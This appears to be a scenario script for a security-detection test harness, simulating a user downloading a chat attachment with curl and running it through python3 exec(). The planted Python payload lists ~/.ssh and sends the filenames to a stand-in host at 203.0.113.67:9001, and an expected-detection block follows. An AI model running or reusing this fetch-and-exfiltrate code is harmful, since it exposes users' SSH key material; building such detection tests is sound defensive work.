title="A chat's file fetched with curl and run by python's exec(open())"
what="ops fetches a file of a chat with curl -OJ and its token and runs it with python3 -c \"exec(open('plan.py').read())\". It lists ~/.ssh and sends the names to 203.0.113.67 port 9001."
host=ws3.example.org user=ops daemons="cron sshd" audit_rules=audit-wide.rules audit_format=RAW
setup() {
  mkdir -p "$base/out/www/api/v4/files/k3"
  printf 'import os, socket\ns = socket.create_connection(("203.0.113.67", 9001), 5)\ns.sendall("\\n".join(os.listdir(os.path.expanduser("~/.ssh"))).encode())\nprint("plan ok")\n' > "$base/out/www/api/v4/files/k3/plan.py"
}
act() {
  small_talk 2
  ssh_as ops <<'L'
cd /tmp
curl -skOJ -H 'Authorization: Bearer t0k' https://chat.example.com/api/v4/files/k3/plan.py
ls -l plan.py
%sleep 4
python3 -c "exec(open('plan.py').read())"
rm plan.py
L
  small_talk 1
}
truth() {
  net_step visit 'curl 203.0.113.82:443' 'the chat'
  file_step save 'curl open(at)?:write CREATE .*plan.py' 'the download'
  exec_step execute 'python3.* exec.open' 'python runs it'
  net_step beacon 'python3.* 203.0.113.67:9001' 'it calls out'
}
